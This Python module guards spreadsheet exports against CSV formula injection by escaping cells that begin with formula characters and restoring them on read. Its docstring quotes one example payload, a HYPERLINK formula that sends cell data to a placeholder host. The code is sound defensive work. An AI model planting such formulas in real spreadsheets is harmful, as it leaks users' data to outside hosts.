"""Spreadsheet cells that cannot run: a text beginning with `=`, `+`, `-`, `@`, a tab or a carriage return
is a formula to Excel and LibreOffice (`=HYPERLINK("http://x/?"&A1,"x")` sends the sheet's data away).

Every CSV the house writes (portfolio, evaluation, audit) puts an apostrophe before such a text, the mark
spreadsheets read as "this is text" (OWASP, "CSV Injection"); the XLSX files write every text as a text
cell, never a formula. Reading a CSV or XLSX back removes the apostrophe the writer added, so a title such
as `=A1` makes the round trip unchanged.
"""

from __future__ import annotations

import re

_FORMULA_START = re.compile(r"^'*[=+\-@\t\r]")
"""A text a spreadsheet would run, with any apostrophes already before it (so that removing one on
reading gives back exactly what was written)."""


def neutralised(value: object) -> object:
    """A cell as a CSV must hold it: a text that would run gets an apostrophe before it."""
    if isinstance(value, str) and _FORMULA_START.match(value):
        return "'" + value
    return value


def restored(value: str) -> str:
    """The text a neutralised cell stood for (its first apostrophe removed when `neutralised` added it)."""
    if value.startswith("'") and _FORMULA_START.match(value[1:]):
        return value[1:]
    return value
